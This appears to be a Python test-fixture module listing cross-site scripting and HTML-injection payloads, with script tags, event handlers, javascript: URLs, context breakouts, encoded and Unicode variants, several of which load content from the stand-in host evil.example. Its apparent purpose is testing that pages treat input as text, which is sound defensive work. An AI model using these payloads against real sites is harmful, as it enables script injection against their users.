"""Texts that would run, or fetch, if a page took them for anything but text.

RUN stands for what they try: to set ``window.pwned``. Others ask ``evil.example``.
"""

from __future__ import annotations

_RUN = "window.pwned=1"

_AS_WRITTEN = r"""
<script>RUN</script>
</script><script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src=//evil.example/x.js></script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=//evil.example/a.png>
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><use href=//evil.example/s.svg#a>
<iframe srcdoc="<script>parent.RUN</script>">
<iframe src=javascript:parent.RUN>
<iframe src=//evil.example/>
<body onload=RUN>
<details open ontoggle=RUN>
<input autofocus onfocus=RUN>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/p>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/b)}</style>
<meta http-equiv=refresh content='0;url=//evil.example/'>
<base href=//evil.example/>
<object data=//evil.example/o></object>
<embed src=//evil.example/e>
<form action=//evil.example/><button autofocus onfocus=RUN>
<math><mtext><script>RUN</script>
<template><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<textarea></textarea><script>RUN</script>
<title></title><script>RUN</script>
<!--><script>RUN</script>-->
<!--<script>--><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
<a href=javascript:RUN>x</a>
<div style="width:expression(RUN)">
<marquee onstart=RUN>
<portal src=//evil.example/>
"><script>RUN</script>
'><img src=x onerror=RUN>
" onmouseover="RUN
';RUN;'
\u003cscript\u003eRUN\u003c/script\u003e
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
${RUN}
{{RUN}}
`+(RUN)+`
javascript:RUN
data:text/html,<script>RUN</script>
http://evil.example/
url(http://evil.example/u)
__proto__
constructor
[object Object];RUN
""".strip().splitlines()

_WITH_ODD_CHARACTERS = (
    "\u2028RUN\u2029", "\u202e<script>RUN</script>", "\x00<script\x00>RUN</script>", "\U0001f600<img/src=x/onerror=RUN>",
)

PAYLOADS: tuple[str, ...] = tuple(text.replace("RUN", _RUN) for text in (*_AS_WRITTEN, *_WITH_ODD_CHARACTERS))
